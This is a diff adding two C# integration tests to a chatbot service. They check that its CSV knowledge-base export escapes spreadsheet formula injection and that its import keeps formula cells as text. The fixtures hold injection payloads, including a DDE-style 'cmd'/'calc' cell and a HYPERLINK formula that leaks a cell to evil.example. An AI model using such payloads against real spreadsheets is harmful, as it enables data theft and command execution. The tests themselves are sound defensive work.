@@ -127,6 +127,49 @@ public sealed class BotTests(VirtuOpsApiFactory factory) : IClassFixture<VirtuOp
     }
 
     [Fact]
+    public async Task Exported_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe_and_import_back_unchanged()
+    {
+        using var owner = new SpaClient(factory);
+        await owner.RegisterVerifiedOwnerAsync("bot-formula@example.uz", "+998901000107");
+        var source = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formulas" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
+        var target = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formulas back" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
+        (string[] Questions, string Answer)[] entries =
+        [
+            (["@SUM(1+1)*cmd", "' /C calc'!A0"], "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Chegirma\")"),
+            (["+998 raqamiga qo‘ng‘iroq qilsam bo‘ladimi?"], "-5% chegirma har dushanba"),
+            (["'=Qo‘shtirnoqli savol"], "Oddiy javob, formulasiz."),
+        ];
+        foreach (var (questions, answer) in entries)
+            (await owner.Http.PostAsJsonAsync($"/api/bots/{source.Id}/knowledge", new { questions, answer })).EnsureSuccessStatusCode();
+
+        var csv = await (await owner.Http.GetAsync($"/api/bots/{source.Id}/knowledge/export")).Content.ReadAsStringAsync();
+
+        var cells = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.TrimEnd('\r')).ToList();
+        cells[0].ShouldStartWith("'@SUM(1+1)*cmd");
+        cells[0].ShouldContain(",\"'=HYPERLINK(");
+        cells[1].ShouldStartWith("'+998 ");
+        cells[1].ShouldEndWith(",'-5% chegirma har dushanba");
+        cells[2].ShouldStartWith("''=Qo‘shtirnoqli");
+        (await owner.Http.PostAsJsonAsync($"/api/bots/{target.Id}/knowledge/import", new { csv })).StatusCode.ShouldBe(HttpStatusCode.OK);
+        var imported = await factory.QueryDatabaseAsync(db => db.KnowledgeEntries.IgnoreQueryFilters().Where(k => k.BotId == target.Id).ToListAsync());
+        imported.Select(k => (string.Join("|", k.Questions), k.Answer)).ShouldBe(entries.Select(e => (string.Join("|", e.Questions), e.Answer)), ignoreOrder: true);
+    }
+
+    [Fact]
+    public async Task An_imported_cell_that_starts_with_a_formula_character_is_kept_as_text()
+    {
+        using var owner = new SpaClient(factory);
+        await owner.RegisterVerifiedOwnerAsync("bot-formula-import@example.uz", "+998901000108");
+        var bot = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formula import" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
+        const string csv = "questions,answer\n=1+2,\"=HYPERLINK(\"\"https://evil.example\"\")\"\n";
+
+        (await owner.Http.PostAsJsonAsync($"/api/bots/{bot.Id}/knowledge/import", new { csv })).StatusCode.ShouldBe(HttpStatusCode.OK);
+
+        var entry = await factory.QueryDatabaseAsync(db => db.KnowledgeEntries.IgnoreQueryFilters().SingleAsync(k => k.BotId == bot.Id));
+        (entry.Questions.Single(), entry.Answer).ShouldBe(("=1+2", "=HYPERLINK(\"https://evil.example\")"));
+    }
+
+    [Fact]
     public async Task An_origin_that_is_not_a_web_origin_is_a_field_error()
     {
         using var owner = new SpaClient(factory);
